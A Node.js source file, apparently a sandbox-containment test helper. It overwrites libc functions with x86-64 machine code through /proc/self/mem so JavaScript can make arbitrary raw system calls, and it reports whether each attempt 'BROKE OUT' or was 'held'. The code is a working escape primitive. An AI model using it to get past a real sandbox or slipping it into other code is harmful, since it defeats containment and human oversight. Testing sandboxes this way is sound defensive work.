// What JavaScript needs to make system calls: it writes machine code over functions of the C library, through /proc/self/mem.
// systemCall(number, …arguments) → what the kernel returned; overwrite(function, code); attempt({what: [number, …arguments]}).
const { systemCall, overwrite, attempt } = (function () {
  const fs = require('fs')

  const DYNAMIC_SYMBOLS = 11
  const ARGUMENT_LOADS = [[0x48, 0xbf], [0x48, 0xbe], [0x48, 0xba], [0x49, 0xba], [0x49, 0xb8], [0x49, 0xb9]] // rdi, rsi, rdx, r10, r8, r9
  const HELD = [-1, -13, -38] // not permitted, no access, no such call

  if (process.arch !== 'x64') throw new Error('not tried: the machine code is that of x86-64')

  let library = null
  let memory = null

  function open () {
    const line = fs.readFileSync('/proc/self/maps', 'latin1').split('\n').find(line => /libc[.]so[.]6$/.test(line) && / 00000000 /.test(line))
    library = { base: parseInt(line, 16), symbols: readSymbols(fs.readFileSync(line.replace(/^.* \//, '/'))) }
    memory = fs.openSync('/proc/self/mem', 'r+')
  }

  function readSymbols (elf) {
    const section = index => Number(elf.readBigUInt64LE(40)) + index * elf.readUInt16LE(58)
    const where = at => ({ start: Number(elf.readBigUInt64LE(at + 24)), size: Number(elf.readBigUInt64LE(at + 32)), link: elf.readUInt32LE(at + 40) })
    let index = 0
    while (elf.readUInt32LE(section(index) + 4) !== DYNAMIC_SYMBOLS) index++
    const table = where(section(index))
    const names = where(section(table.link)).start
    const symbols = new Map()
    for (let at = table.start; at < table.start + table.size; at += 24) {
      const name = names + elf.readUInt32LE(at)
      symbols.set(elf.latin1Slice(name, elf.indexOf(0, name)), Number(elf.readBigUInt64LE(at + 8)))
    }
    return symbols
  }

  function addressOf (name) {
    if (library === null) open()
    return library.base + library.symbols.get(name)
  }

  function overwrite (name, code) {
    const address = addressOf(name)
    fs.writeSync(memory, code, 0, code.length, address)
  }

  // process.umask is the door: a function of the C library that takes a number and returns one.
  function systemCall (number, ...args) {
    const load = (opcode, value) => {
      const bytes = Buffer.alloc(10)
      bytes.set(opcode)
      bytes.writeBigInt64LE(BigInt(value), 2)
      return bytes
    }
    const loads = ARGUMENT_LOADS.map((opcode, i) => load(opcode, args[i] ?? 0))
    overwrite('wordexp', Buffer.concat([load([0x48, 0xb8], number), ...loads, Buffer.from([0x0f, 0x05, 0xc3])]))
    const jump = Buffer.from([0xe9, 0, 0, 0, 0])
    jump.writeInt32LE(addressOf('wordexp') - addressOf('umask') - jump.length, 1)
    overwrite('umask', jump)
    return process.umask(0) | 0
  }

  function callAll (calls) {
    try {
      return Object.entries(calls).map(([what, call]) => [what, systemCall(...call)])
    } catch (err) {
      throw new Error(`held: no machine code could be written, ${err.code ?? err.message}`)
    }
  }

  /** Throws either way: that it broke out, or that it was held. harmless: an answer by call that is no more than a refusal. */
  function attempt (calls, harmless = {}) {
    const answers = callAll(calls)
    const through = answers.filter(([what, answer]) => !HELD.includes(answer) && harmless[what] !== answer)
    throw new Error(`${through.length > 0 ? 'BROKE OUT' : 'held'}: ${(through.length > 0 ? through : answers).map(([what, answer]) => `${what} ${answer}`).join(', ')}`)
  }

  return { systemCall, overwrite, attempt }
})()
